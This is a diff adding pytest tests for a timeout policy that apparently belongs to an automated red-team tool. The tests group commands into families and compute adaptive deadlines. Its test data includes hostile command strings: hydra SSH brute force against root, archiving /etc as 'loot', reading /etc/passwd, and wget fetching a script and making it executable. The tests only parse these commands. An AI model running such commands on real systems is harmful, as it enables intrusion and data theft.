@@ -0,0 +1,93 @@
+import json
+
+import pytest
+
+from Red.timeout_policy import TimeoutPolicy, command_family
+
+
+@pytest.mark.parametrize("command, family", [
+    ("nmap -sV -p- 10.0.0.1", "nmap -p- -sV"),
+    ("nmap -p- -sV 10.0.0.2", "nmap -p- -sV"),
+    ("sudo nmap -sV 10.0.0.1", "nmap -sV"),
+    ("FOO=1 timeout 30 /usr/bin/hydra -l root -P list.txt ssh://10.0.0.3", "hydra -P -l"),
+    ("timeout -s KILL 5m nmap -sn 10.0.0.0/24", "nmap -sn"),
+    ("nice -n 10 tar czf /tmp/loot.tgz /etc", "tar"),
+    ("cat /etc/passwd | grep root", "cat"),
+    ("cd /tmp; ls -la", "cd"),
+    ("wget http://x/p.sh && chmod +x p.sh", "wget"),
+    ("echo 'unterminated", "echo"),
+    ("", ""),
+    ("sudo", ""),
+])
+def test_command_family(command, family):
+    assert command_family(command) == family
+
+
+def test_default_timeout_until_enough_samples():
+    policy = TimeoutPolicy(default_timeout=60, min_samples=5)
+    for _ in range(4):
+        policy.record("nmap -sV 10.0.0.1", 2.0)
+    assert policy.timeout_for("nmap -sV 10.0.0.9") == 60
+    policy.record("nmap -sV 10.0.0.1", 2.0)
+    assert policy.timeout_for("nmap -sV 10.0.0.9") == 10
+    # other families are unaffected
+    assert policy.timeout_for("nmap -sn 10.0.0.9") == 60
+
+
+def test_timeout_is_a_margin_over_the_quantile():
+    policy = TimeoutPolicy(min_timeout=1, max_timeout=600, quantile=0.95, margin=1.5, min_samples=5)
+    for duration in range(1, 21):
+        policy.record("hydra -l root ssh://x", float(duration))
+    # nearest-rank 95th percentile of 1..20 is 19
+    assert policy.timeout_for("hydra -l admin ssh://y") == pytest.approx(28.5)
+
+
+def test_timeout_is_clamped():
+    policy = TimeoutPolicy(min_timeout=10, max_timeout=100, min_samples=1)
+    policy.record("id", 0.1)
+    assert policy.timeout_for("id") == 10
+    policy.record("nmap -p- x", 1000)
+    assert policy.timeout_for("nmap -p- y") == 100
+    with pytest.raises(AssertionError):
+        TimeoutPolicy(min_timeout=100, max_timeout=10)
+
+
+def test_timed_out_runs_grow_the_deadline():
+    policy = TimeoutPolicy(default_timeout=60, min_timeout=10, max_timeout=600, quantile=0.5, margin=1.0, min_samples=3)
+    deadline = policy.timeout_for("nmap -p- x")
+    deadlines = []
+    for _ in range(6):
+        policy.record("nmap -p- x", deadline, timed_out=True, deadline=deadline)
+        deadline = policy.timeout_for("nmap -p- x")
+        deadlines.append(deadline)
+    assert deadlines[-1] > 60
+    assert deadlines == sorted(deadlines)
+    assert policy.timeouts["nmap -p-"] == 6
+
+
+def test_only_the_last_samples_are_kept():
+    policy = TimeoutPolicy(min_timeout=1, max_samples=10, min_samples=1, quantile=1.0, margin=1.0)
+    for _ in range(50):
+        policy.record("scan", 500)
+    for _ in range(10):
+        policy.record("scan", 5)
+    assert len(policy.durations["scan"]) == 10
+    assert policy.timeout_for("scan") == 5
+
+
+def test_durations_are_saved_and_shared(tmp_path):
+    path = tmp_path / "stats" / "timeout_stats.json"
+    policy = TimeoutPolicy(path, min_samples=1)
+    for _ in range(19):
+        policy.record("id", 1.0)
+    assert not path.exists()
+    policy.record("sleep 100", 5.0, timed_out=True, deadline=60)
+    assert path.exists()
+
+    data = json.loads(path.read_text())
+    assert data["sleep"] == {"durations": [120], "timeouts": 1}
+    assert len(data["id"]["durations"]) == 19
+
+    shared = TimeoutPolicy(path, min_samples=1)
+    assert shared.timeout_for("id") == policy.timeout_for("id")
+    assert shared.timeouts == {"id": 0, "sleep": 1}